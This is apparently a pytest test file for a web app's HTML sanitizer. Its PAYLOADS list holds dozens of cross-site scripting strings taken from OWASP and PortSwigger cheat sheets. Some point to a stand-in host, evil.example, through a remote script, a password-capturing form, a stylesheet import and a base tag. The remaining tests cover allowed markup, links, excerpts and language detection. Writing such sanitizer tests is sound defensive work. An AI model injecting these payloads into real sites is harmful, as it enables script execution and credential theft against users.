"""Whatever is sent, nothing that runs, loads or hides is stored."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core import rich_text

# From the public collections of OWASP (XSS Filter Evasion Cheat Sheet) and PortSwigger (XSS cheat sheet).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>click</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/auth/signout'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='position:fixed;inset:0' target=_top>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<td colspan='1\" onmouseover=alert(1) x=\"'>x</td>",
    "<ol start='1;alert(1)'><li>x</ol>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xss onclick=alert(1) style=display:block>x</xss>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p/onclick=alert(1)>x",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<a href="https://ok.example/\u202emoc.live">x</a>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p id=config name=cookie class='fixed inset-0'>x</p>",
    "<p title='read me instead' lang=xx>x</p>",
]
TAGS = {
    *("p", "br", "hr", "h2", "h3", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
PERSON = re.compile(r"/people/[0-9a-f-]{36}")
ATTRIBUTES = {
    "a": {"href", "rel"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}


class _Reader(HTMLParser):
    """Refuses what is not on the list, as a second opinion."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set())
            if name == "href":
                out = (value or "").lower().startswith(("http://", "https://", "mailto:"))
                assert out or PERSON.fullmatch(value or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def _read(clean: str) -> None:
    reader = _Reader(convert_charrefs=True)
    reader.feed(clean)
    reader.close()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_or_loads_is_kept(payload: str) -> None:
    clean = rich_text.cleaned(f"<p>before {payload} after</p>")
    _read(clean)
    assert rich_text.cleaned(clean) == clean
    assert "before" in clean


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<p>", "</p>", "<table>", "<li>", "<pre>", "'", '"', ">"]), max_size=6
    )
)
def test_nor_is_any_mixture_of_it(parts: list[str]) -> None:
    _read(rich_text.cleaned("".join(parts)))


def test_what_people_write_is_kept_as_it_is() -> None:
    written = (
        "<h2>عنوان</h2><h3>Part</h3>"
        "<p>One <strong>two</strong> <em>three</em> <s>four</s> <code>x &lt; 1</code><br>end</p>"
        '<ul><li><p>a</p></li></ul><ol start="3"><li><p>b</p></li></ol><blockquote><p>quoted</p></blockquote>'
        "<pre><code>MOVE 1</code></pre><hr>"
        '<table><tbody><tr><th colspan="2"><p>h</p></th></tr>'
        "<tr><td><p>1</p></td><td><p>2</p></td></tr></tbody></table>"
    )
    assert rich_text.cleaned(written) == written


def test_links_lead_out_without_a_blessing() -> None:
    clean = rich_text.cleaned(
        '<a href="https://example.com/a?b=1&amp;c=2" rel="author" target="_blank">x</a>'
    )
    assert clean == (
        '<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow ugc noopener noreferrer">x</a>'
    )


_ID = "0192c7a0-0000-7000-8000-000000000011"


def test_within_the_site_links_lead_to_people() -> None:
    clean = rich_text.cleaned(f'<p><a href="/people/{_ID}" title="x">@Salma</a></p>')
    assert clean == f'<p><a href="/people/{_ID}" rel="nofollow ugc noopener noreferrer">@Salma</a></p>'
    assert rich_text.cleaned(clean) == clean


@pytest.mark.parametrize(
    "address",
    [
        f"people/{_ID}",
        f"./people/{_ID}",
        f"/people/{_ID}/../../auth/signout",
        f"/people/{_ID}?x=1",
        f"/people/{_ID}#x",
        f"/people/{_ID.upper()}",
        f"//people/{_ID}",
        f"/\\people/{_ID}",
        f"/people/{_ID}\n",
        f"/administration/people/{_ID}",
        "/people/",
        "",
        "#reply",
        "?reply=1",
        "/",
    ],
)
def test_but_nowhere_else(address: str) -> None:
    assert "href" not in rich_text.cleaned(f'<p><a href="{address}">x</a></p>')


def test_what_one_reads_keeps_words_apart() -> None:
    text = rich_text.plain("<h2>One</h2><p>two&nbsp;&amp;<br>three</p><ul><li>four</li><li>five</li></ul>")
    assert text == "One two & three four five"


def test_an_excerpt_ends_between_words() -> None:
    assert rich_text.excerpt("short") == "short"
    cut = rich_text.excerpt("word, " * 100)
    assert (cut.endswith("word…"), len(cut) <= 240) == (True, True)


@pytest.mark.parametrize(
    ("text", "arabic"),
    [
        ("محمل SKF-6312 ساخن", True),
        ("The bearing (محمل) of the main fan runs hot", False),
        ("1234", False),
        ("", False),
    ],
)
def test_the_language_is_that_of_most_letters(text: str, *, arabic: bool) -> None:
    assert rich_text.is_arabic(text) is arabic
